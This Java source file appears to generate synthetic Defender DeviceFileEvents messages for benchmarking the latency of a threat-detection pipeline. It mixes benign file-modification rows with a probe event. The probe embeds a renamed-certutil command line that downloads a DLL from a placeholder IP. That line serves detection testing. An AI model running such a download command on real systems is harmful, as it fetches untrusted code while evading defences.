package dev.bazahunt.job.latency;

import java.nio.charset.StandardCharsets;
import java.time.Instant;

/** Event Hubs message bodies for the latency benchmark: benign rows as load, and download probes. */
final class BenignMessages {
    private BenignMessages() {}

    static String deviceId(int device) {
        return String.format("%040x", 0xbe11c0deL * 1000 + device);
    }

    /** Ten benign DeviceFileEvents rows of about 1 KB each from one device, at {@code epochMillis}. */
    static byte[] message(int device, long epochMillis) {
        String time = Instant.ofEpochMilli(epochMillis).toString();
        StringBuilder body = new StringBuilder(12_000).append("{\"records\":[");
        for (int i = 0; i < 10; i++) {
            if (i > 0) {
                body.append(',');
            }
            body.append("{\"time\":\"").append(time).append("\",\"category\":\"AdvancedHunting-DeviceFileEvents\",")
                    .append("\"properties\":{\"Timestamp\":\"").append(time).append("\",\"DeviceId\":\"")
                    .append(deviceId(device)).append("\",\"DeviceName\":\"wks-").append(device)
                    .append(".contoso.local\",\"ActionType\":\"FileModified\",\"FileName\":\"NTUSER.DAT.LOG").append(i)
                    .append("\",\"FolderPath\":\"C:\\\\Users\\\\user").append(device).append("\\\\NTUSER.DAT.LOG").append(i)
                    .append("\",\"SHA1\":\"3395856ce81f2b7382dee72602f798b642f14140\",\"FileSize\":262144,")
                    .append("\"InitiatingProcessAccountDomain\":\"nt authority\",\"InitiatingProcessAccountName\":\"system\",")
                    .append("\"InitiatingProcessFileName\":\"svchost.exe\",\"InitiatingProcessFolderPath\":")
                    .append("\"c:\\\\windows\\\\system32\\\\svchost.exe\",\"InitiatingProcessId\":1460,")
                    .append("\"InitiatingProcessCommandLine\":\"svchost.exe -k netsvcs -p -s ProfSvc\",")
                    .append("\"InitiatingProcessCreationTime\":\"2021-07-21T06:00:00.0000000Z\",")
                    .append("\"InitiatingProcessParentFileName\":\"services.exe\",\"InitiatingProcessParentId\":700,")
                    .append("\"InitiatingProcessVersionInfoCompanyName\":\"Microsoft Corporation\",")
                    .append("\"InitiatingProcessVersionInfoProductName\":\"Microsoft Windows Operating System\",")
                    .append("\"ReportId\":").append(epochMillis % 100_000 * 10 + i).append(",\"MachineGroup\":\"Workstations\"}}");
        }
        return body.append("]}").toString().getBytes(StandardCharsets.UTF_8);
    }

    /** One renamed-certutil download whose process id and ReportId are the probe id. */
    static byte[] probe(long probeId, long epochMillis) {
        String time = Instant.ofEpochMilli(epochMillis).toString();
        return ("{\"records\":[{\"time\":\"" + time + "\",\"category\":\"AdvancedHunting-DeviceFileEvents\","
                + "\"properties\":{\"Timestamp\":\"" + time + "\",\"DeviceId\":\"" + deviceId((int) (probeId % 1000))
                + "\",\"DeviceName\":\"wks-probe.contoso.local\",\"ActionType\":\"FileCreated\",\"FileName\":\"p.dll\","
                + "\"FolderPath\":\"C:\\\\Users\\\\Public\\\\p\\\\p.dll\",\"InitiatingProcessFileName\":\"p.exe\","
                + "\"InitiatingProcessCommandLine\":\"p.exe -urlcache -split -f http://198.51.100.7/p.dll p.dll\","
                + "\"InitiatingProcessId\":" + probeId + ",\"InitiatingProcessCreationTime\":\"" + time + "\","
                + "\"ReportId\":" + probeId + "}}]}").getBytes(StandardCharsets.UTF_8);
    }
}
